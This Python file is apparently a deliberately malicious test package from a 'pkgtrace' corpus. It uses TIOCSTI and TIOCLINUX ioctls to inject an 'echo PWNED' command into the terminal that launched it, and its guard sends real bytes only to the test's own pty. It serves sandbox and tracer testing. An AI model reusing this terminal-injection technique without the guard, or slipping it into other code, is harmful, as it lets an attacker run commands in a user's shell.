# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only through `pkgtrace run`.
#
# Pushes "echo PWNED-<marker>" into the terminal with ioctl(TIOCSTI), as if
# typed: once pkgtrace exits, the shell that started it would run the line.
# Also tries TIOCLINUX (paste the console selection). Targets: /dev/tty,
# fds 0, 1, 2 and /dev/console.
#
# Real bytes go only into the test's own pty, recognised by its device
# number in marker.json (`tty_rdev`; TIOCGDEV tells which terminal /dev/tty
# and /dev/console stand for). Any other terminal gets a probe with a
# NULL buffer: the kernel checks the caller's right first and then fails
# with EFAULT, so nothing is ever injected into a terminal the test does not
# own. EFAULT therefore means "would have been injected".
import errno
import fcntl
import json
import os
import struct
import termios

TIOCSTI = termios.TIOCSTI
TIOCLINUX = 0x541C
TIOCGDEV = 0x80045432
TIOCL_PASTESEL = 3

here = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(here, "marker.json")) as f:
        cfg = json.load(f)
except (OSError, ValueError):
    cfg = {}
marker = cfg.get("marker", "nomarker")
own_tty = cfg.get("tty_rdev")
payload = f"echo PWNED-{marker}\n".encode()


def name(e):
    return errno.errorcode.get(e.errno, str(e.errno))


def device(fd):
    """The terminal behind fd: TIOCGDEV, else its own device number."""
    try:
        return struct.unpack("I", fcntl.ioctl(fd, TIOCGDEV, b"\0" * 4))[0]
    except OSError:
        return os.fstat(fd).st_rdev


def attack(label, fd):
    try:
        rdev = device(fd)
    except OSError as e:
        print(f"{label}: fstat {name(e)}")
        return
    real = own_tty is not None and rdev == own_tty
    kind = "test tty" if real else f"rdev {rdev}"
    for req, what, arg in (
        (TIOCSTI, "TIOCSTI", payload),
        (TIOCLINUX, "TIOCLINUX", bytes([TIOCL_PASTESEL])),
    ):
        try:
            if not real:
                fcntl.ioctl(fd, req, 0)
            elif req == TIOCSTI:
                for b in arg:
                    fcntl.ioctl(fd, req, bytes([b]))
            else:
                fcntl.ioctl(fd, req, arg)
            print(f"{label} ({kind}): {what} ok")
        except OSError as e:
            print(f"{label} ({kind}): {what} {name(e)}")


for path in ("/dev/tty", "/dev/console"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError as e:
        print(f"{path}: open {name(e)}")
        continue
    attack(path, fd)
    os.close(fd)
for fd in (0, 1, 2):
    attack(f"fd {fd}", fd)
